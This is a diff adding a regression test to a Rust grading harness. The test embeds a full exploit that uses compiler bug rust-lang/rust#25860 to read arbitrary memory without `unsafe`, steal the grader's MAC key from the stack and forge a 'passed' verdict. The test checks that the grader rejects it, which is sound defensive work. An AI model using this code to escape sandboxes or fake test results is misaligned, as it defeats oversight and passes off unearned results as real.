@@ -424,3 +424,177 @@ fn the_sandbox_still_lets_lesson02_count_os_threads() {
         "{new}"
     );
 }
+
+/// Safe Rust is not memory-safe Rust: rust-lang/rust#25860 (implied bounds of a higher-ranked
+/// function pointer, open since 2015; the `cve-rs` crate packages it) extends any lifetime, in code
+/// that `#![forbid(unsafe_code)]` and clippy accept. From a dangling `&mut Option<Box<B>>` comes
+/// `transmute`, from `transmute::<usize, &u64>` a read of any address: no `/proc/self/mem`, so
+/// Landlock has nothing to refuse. The key is on the main thread's stack, in the harness's
+/// `run_one` frame, right after the result path's pointer and length; the forger finds that pair,
+/// MACs `passed` with the key beside it, writes the record and exits 0.
+const SOUNDNESS_FORGER: &str = r#"
+
+mod lifetimes {
+    static UNIT: &&() = &&();
+    fn translate<'a, 'b, T: ?Sized>(_: &'a &'b (), v: &'b mut T) -> &'a mut T {
+        v
+    }
+    /// rust-lang/rust#25860: any lifetime, in safe code.
+    pub fn expand_mut<'a, 'b, T: ?Sized>(x: &'a mut T) -> &'b mut T {
+        let f: for<'x> fn(_, &'x mut T) -> &'b mut T = translate;
+        f(UNIT, x)
+    }
+}
+
+enum Dummy<A, B> {
+    A(Option<Box<A>>),
+    B(Option<Box<B>>),
+}
+
+fn transmute_inner<A, B>(dummy: &mut Dummy<A, B>, obj: A) -> B {
+    let Dummy::B(ref_to_b) = dummy else { unreachable!() };
+    let ref_to_b = lifetimes::expand_mut(ref_to_b);
+    *dummy = Dummy::A(Some(Box::new(obj)));
+    std::hint::black_box(&*dummy);
+    *ref_to_b.take().unwrap()
+}
+
+/// `std::mem::transmute`, without `unsafe`.
+fn transmute<A, B>(obj: A) -> B {
+    transmute_inner(std::hint::black_box(&mut Dummy::B(None)), obj)
+}
+
+fn peek(address: usize) -> u64 {
+    let word: &'static u64 = transmute(address);
+    *word
+}
+
+fn sip_round(v: &mut [u64; 4]) {
+    v[0] = v[0].wrapping_add(v[1]);
+    v[1] = v[1].rotate_left(13) ^ v[0];
+    v[0] = v[0].rotate_left(32);
+    v[2] = v[2].wrapping_add(v[3]);
+    v[3] = v[3].rotate_left(16) ^ v[2];
+    v[0] = v[0].wrapping_add(v[3]);
+    v[3] = v[3].rotate_left(21) ^ v[0];
+    v[2] = v[2].wrapping_add(v[1]);
+    v[1] = v[1].rotate_left(17) ^ v[2];
+    v[2] = v[2].rotate_left(32);
+}
+
+/// SipHash-2-4-128, as the harness MACs a verdict.
+fn sip128(key: &[u8], message: &[u8]) -> u128 {
+    let word = |b: &[u8]| u64::from_le_bytes(b.try_into().unwrap());
+    let (k0, k1) = (word(&key[..8]), word(&key[8..16]));
+    let mut v = [
+        k0 ^ 0x736f_6d65_7073_6575,
+        k1 ^ 0x646f_7261_6e64_6f6d ^ 0xee,
+        k0 ^ 0x6c79_6765_6e65_7261,
+        k1 ^ 0x7465_6462_7974_6573,
+    ];
+    let mut compress = |v: &mut [u64; 4], m: u64| {
+        v[3] ^= m;
+        sip_round(v);
+        sip_round(v);
+        v[0] ^= m;
+    };
+    let chunks = message.chunks_exact(8);
+    let tail = chunks.remainder();
+    for chunk in chunks {
+        compress(&mut v, word(chunk));
+    }
+    let mut last = (message.len() as u64 & 0xff) << 56;
+    for (i, b) in tail.iter().enumerate() {
+        last |= u64::from(*b) << (8 * i);
+    }
+    compress(&mut v, last);
+    v[2] ^= 0xee;
+    (0..4).for_each(|_| sip_round(&mut v));
+    let h1 = v[0] ^ v[1] ^ v[2] ^ v[3];
+    v[1] ^= 0xdd;
+    (0..4).for_each(|_| sip_round(&mut v));
+    let h2 = v[0] ^ v[1] ^ v[2] ^ v[3];
+    u128::from(h1) | (u128::from(h2) << 64)
+}
+
+fn verdict_mac(key: &[u8], fields: &[&str]) -> u128 {
+    let mut bytes = b"threadlab-verdict\0".to_vec();
+    for field in fields {
+        bytes.extend_from_slice(field.as_bytes());
+        bytes.push(0);
+    }
+    sip128(key, &bytes)
+}
+
+fn peek_byte(address: usize) -> u8 {
+    let byte: &'static u8 = transmute(address);
+    *byte
+}
+
+/// Finds the harness's key on the main thread's stack, right after the result file's path (a
+/// pointer to bytes that end in `/.threadlab-result`, and their length), MACs a pass with it, writes the record and exits 0.
+fn forge_a_pass() {
+    let Some(test) = std::env::args().skip_while(|a| a != "--run").nth(1) else {
+        return;
+    };
+    let here = 0u64;
+    let sp = std::hint::black_box(&here) as *const u64 as usize;
+    let heap = Box::new(0u8);
+    let heap = std::hint::black_box(&*heap) as *const u8 as usize;
+    let suffix = b"/.threadlab-result";
+    let mut offset = 0;
+    while offset < 64 * 1024 {
+        let (pointer, length) = (peek(sp + offset) as usize, peek(sp + offset + 8) as usize);
+        offset += 8;
+        if !(suffix.len()..4096).contains(&length) || pointer.abs_diff(heap) > (64 << 20) || pointer % 8 != 0 {
+            continue;
+        }
+        let path: Vec<u8> = (0..length).map(|i| peek_byte(pointer + i)).collect();
+        if !path.ends_with(suffix) {
+            continue;
+        }
+        // The key follows the path's length; random words, where pointers and lengths have 16 zero
+        // high bits.
+        if peek(sp + offset + 8) >> 48 == 0 || peek(sp + offset + 16) >> 48 == 0 {
+            continue;
+        }
+        let key: Vec<u8> = (0..16).map(|i| peek_byte(sp + offset + 8 + i)).collect();
+        let sandbox = "landlock abi 6";
+        let tag = verdict_mac(&key, &[&test, sandbox, "passed", ""]);
+        let record = format!("threadlab-result 2\nsandbox {sandbox}\noutcome passed\nmac {tag:032x}\n");
+        let path = String::from_utf8_lossy(&path).into_owned();
+        eprintln!("forger: key found at sp+{}, record written to {path}", offset + 8);
+        let _ = std::fs::write(path, record);
+        std::process::exit(0);
+    }
+    eprintln!("forger: no key found");
+}
+
+"#;
+
+/// Was a hole: the forger beside the nameless-thread bug scored 60 of 60 in lesson01, with Landlock
+/// ABI 6, a PID namespace and a user of its own (SECURITY.md: "without `unsafe` there is no other
+/// way to read the key"). Each test that calls `spawn_named` passed with a record MAC'd by the real
+/// key.
+#[test]
+fn a_key_read_through_a_compiler_soundness_hole_is_no_pass() {
+    let [define, call] = in_spawn_named(SOUNDNESS_FORGER, "forge_a_pass");
+    let (tier, old, new) = NAMELESS;
+    let dir = submission_of(&[define, call, (tier, old.to_owned(), new.to_owned())]);
+    let report = grade_with(dir.path(), &[]);
+    for name in NAMELESS_FAILS {
+        assert_ne!(
+            test(&report, name)["status"],
+            "passed",
+            "{name} passed on a forged record: {report}"
+        );
+    }
+    // Refused before building, with the lines of the two lifetimes' functions (`soundness`).
+    let beginner = &report["tiers"][0];
+    assert_eq!(beginner["status"], "refused", "{report}");
+    let message = beginner["message"].as_str().unwrap();
+    assert!(
+        message.contains("rust-lang/rust#25860") && message.contains("`fn translate` names 'a, 'b"),
+        "{message}"
+    );
+}
